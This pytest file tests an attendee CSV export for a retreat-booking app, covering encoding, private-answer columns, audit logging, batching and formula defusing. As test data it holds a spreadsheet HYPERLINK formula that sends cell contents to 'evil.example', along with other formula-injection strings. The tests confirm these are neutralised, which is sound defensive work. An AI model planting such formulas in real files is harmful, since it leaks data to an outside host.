"""The CSV export: what Excel and LibreOffice need, no formulas smuggled in, private answers only
when ticked, streamed in batches, and written to the audit log before a byte leaves."""

from __future__ import annotations

import csv
import io

import pytest

from retreats.booking.services import AttendeeDetails
from retreats.extensions import db
from retreats.formatting import major_units
from retreats.listings.questions import Privacy
from retreats.organizer.attendees import export
from retreats.organizer.attendees.export import COLUMNS, PRIVATE_COLUMNS, safe_cell
from tests.conftest import on_both_databases
from tests.factories import (
    ADA,
    ADA_INTAKE,
    BEA,
    BEA_INTAKE,
    CY,
    CY_INTAKE,
    add_question,
    answered,
    held_booking,
    intake,
    paid_booking,
    starting_questions,
)
from tests.organizer.helpers import (
    add_bookings,
    audit_entries_with_action,
    export_url,
    list_page,
    lowest_peak_downloading,
)


def download(client, retreat, **query):
    response = client.get(export_url(retreat), query_string=query)
    assert response.status_code == 200
    return response


def parsed(response) -> list[dict[str, str]]:
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark"
    text = raw.decode("utf-8-sig")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@on_both_databases  # private answers and their audit
def test_the_export_has_one_line_per_person_and_no_private_answers_by_default(
    organizer_client, make_retreat, organizer
):
    retreat = make_retreat(slug="heart-weekend")
    couple = paid_booking(retreat, ADA, BEA, answers=intake(retreat, ADA_INTAKE, BEA_INTAKE))
    single = paid_booking(retreat, CY, answers=intake(retreat, CY_INTAKE))
    held_booking(retreat, CY)  # pending: left out, like on the list

    response = download(organizer_client, retreat)

    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="heart-weekend-attendees.csv"'
    )
    rows = parsed(response)
    # The one ordinary starting question has its column, headed by its label; no private one.
    assert list(rows[0]) == COLUMNS + ["Dietary needs"]
    assert [(row["Booking"], row["Name"], row["Person"]) for row in rows] == [
        (couple.reference, "Ada Lovelace", "Booker"),
        (couple.reference, "Bea Lovelace", "Partner"),
        (single.reference, "Cy Young", "Booker"),
    ]
    ada = rows[0]
    assert ada["Status"] == "confirmed"
    assert ada["Ticket"] == "Couple (2 people)"
    assert ada["Contact email"] == "ada@example.org"
    assert (
        ada["Currency"],
        ada["Booking paid"],
        ada["Booking refunded"],
        ada["Booking owed"],
    ) == ("EUR", "450.00", "0.00", "0.00")
    assert ada["Dietary needs"] == "Vegetarian" and ada["Checked in"] == ""
    assert [row["Dietary needs"] for row in rows[1:]] == ["No nuts", ""]
    text = response.get_data(as_text=True)
    for answer in (ADA_INTAKE["accessibility"], ADA_INTAKE["hopes"], CY_INTAKE["hopes"], "20 7946"):
        assert answer not in text
    for label in ("Accessibility needs", "Emergency contact", "What do you hope for"):
        assert label not in text
    [entry] = audit_entries_with_action(db, "attendees.exported")
    assert entry.actor_id == organizer.id and entry.retreat_id == retreat.id
    assert entry.detail.startswith("without private answers")


@on_both_databases  # private answers and their audit
def test_ticking_private_answers_adds_their_columns_and_says_so_in_the_audit_log(
    organizer_client, make_retreat
):
    retreat = make_retreat()
    paid_booking(retreat, ADA, BEA, answers=intake(retreat, ADA_INTAKE, BEA_INTAKE))
    asked = starting_questions(retreat)
    private = ("accessibility", "emergency-contact", "hopes")

    rows = parsed(download(organizer_client, retreat, private="1", status="all"))

    assert list(rows[0]) == (
        COLUMNS + ["Dietary needs"] + PRIVATE_COLUMNS + [asked[key].label for key in private]
    )
    assert asked["hopes"].label == "What do you hope for from this time?"
    for key in private:
        assert rows[0][asked[key].label] == ADA_INTAKE[key]
        assert rows[1][asked[key].label] == ""  # Bea left them empty
    assert rows[0]["Dietary needs"] == "Vegetarian" and rows[1]["Dietary needs"] == "No nuts"
    [entry] = audit_entries_with_action(db, "attendees.exported")
    assert entry.detail == "with private answers; status=all"


def test_the_list_page_offers_the_export_with_private_answers_unticked(
    organizer_client, make_retreat
):
    retreat = make_retreat()
    page = list_page(organizer_client, retreat, status="all")
    form = page[page.index(f'action="{export_url(retreat)}"') :]
    form = form[: form.index("</form>")]
    assert '<input type="hidden" name="status" value="all">' in form
    assert '<input type="checkbox" name="private" value="1">' in form  # not checked
    assert "Include private answers" in form


def test_cells_a_spreadsheet_would_run_as_formulas_are_defused(organizer_client, make_retreat):
    retreat = make_retreat()
    sneaky = AttendeeDetails(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")', email="sneaky@example.org"
    )
    answers = {
        "dietary-needs": "@SUM(1+1)",
        "emergency-contact": "+44 20 7946 0000",
        "hopes": "-2+3",
    }
    given = intake(retreat, answers)
    # An organizer's label is a heading: it is defused too.
    labelled = add_question(retreat, label="=Anything else?", privacy=Privacy.ORDINARY)
    given.append(answered(labelled, "=1+2"))
    paid_booking(retreat, sneaky, answers=given)

    [row] = parsed(download(organizer_client, retreat, private="1"))

    assert row["Name"] == "'" + sneaky.name
    assert row["Contact name"] == "'" + sneaky.name
    assert row["Dietary needs"] == "'@SUM(1+1)"
    assert row["Emergency contact"] == "'+44 20 7946 0000"
    assert row["What do you hope for from this time?"] == "'-2+3"
    assert row["'=Anything else?"] == "'=1+2"
    assert row["Email"] == "sneaky@example.org"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("Zoë", "Zoë"),
        ("", ""),
        (None, ""),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize(
    ("amount", "currency", "text"),
    [(45_000, "EUR", "450.00"), (5, "USD", "0.05"), (0, "GBP", "0.00"), (5000, "JPY", "5000")],
)
def test_amounts_are_plain_numbers_in_major_units(amount, currency, text):
    assert major_units(amount, currency) == text


def test_accents_and_line_breaks_survive_the_round_trip(organizer_client, make_retreat):
    retreat = make_retreat()
    paid_booking(
        retreat,
        AttendeeDetails(name="Zoë Ødegård", email="zoe@example.org"),
        answers=intake(retreat, {"dietary-needs": 'No "dairy"\nNo gluten'}),
    )

    [row] = parsed_allowing_breaks(download(organizer_client, retreat))

    assert row["Name"] == "Zoë Ødegård"
    assert row["Dietary needs"] == 'No "dairy"\nNo gluten'


def parsed_allowing_breaks(response) -> list[dict[str, str]]:
    text = response.get_data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@on_both_databases  # private answers and their audit
def test_rows_are_read_and_sent_in_batches_after_the_audit_entry_is_written(
    organizer_client, make_retreat, monkeypatch
):
    monkeypatch.setattr(export, "BATCH_SIZE", 2)
    retreat = make_retreat(capacity=20)
    for _ in range(5):
        paid_booking(retreat, CY)

    response = organizer_client.get(export_url(retreat), buffered=False)

    # Nothing has been read from the bookings yet, but the export is already on record.
    assert response.is_streamed
    assert len(audit_entries_with_action(db, "attendees.exported")) == 1
    chunks = list(response.response)
    response.close()
    assert len(chunks) == 1 + 3  # the header, then batches of 2, 2 and 1 people
    assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 2, 2, 1]


@on_both_databases  # private answers and their audit
@pytest.mark.parametrize("query", [{"status": "nope"}, {"q": "x" * 1000}])
def test_a_bad_filter_is_a_400_and_nothing_is_recorded(organizer_client, make_retreat, query):
    retreat = make_retreat()
    response = organizer_client.get(export_url(retreat), query_string=query)
    assert response.status_code == 400
    assert audit_entries_with_action(db, "attendees.exported") == []


def test_exporting_ten_times_the_people_takes_no_more_memory(
    organizer_client, make_retreat, db, monkeypatch
):
    """Rows are read from the database a batch at a time as the response is sent: an export
    that read every row first (even one that still sent them in batches) fails this."""
    monkeypatch.setattr(export, "BATCH_SIZE", 50)
    small = make_retreat(capacity=10_000)
    large = make_retreat(capacity=10_000)
    add_bookings(db, small, 150, intake=True)  # 200 people, their answers
    add_bookings(db, large, 1500, intake=True)  # 2,000 people
    lowest_peak_downloading(organizer_client, export_url(small))  # caches and compiled SQL warm

    small_lines, small_peak = lowest_peak_downloading(organizer_client, export_url(small))
    large_lines, large_peak = lowest_peak_downloading(organizer_client, export_url(large))

    assert (small_lines, large_lines) == (1 + 200, 1 + 2000)
    assert large_peak < 1.5 * small_peak, (small_peak, large_peak)
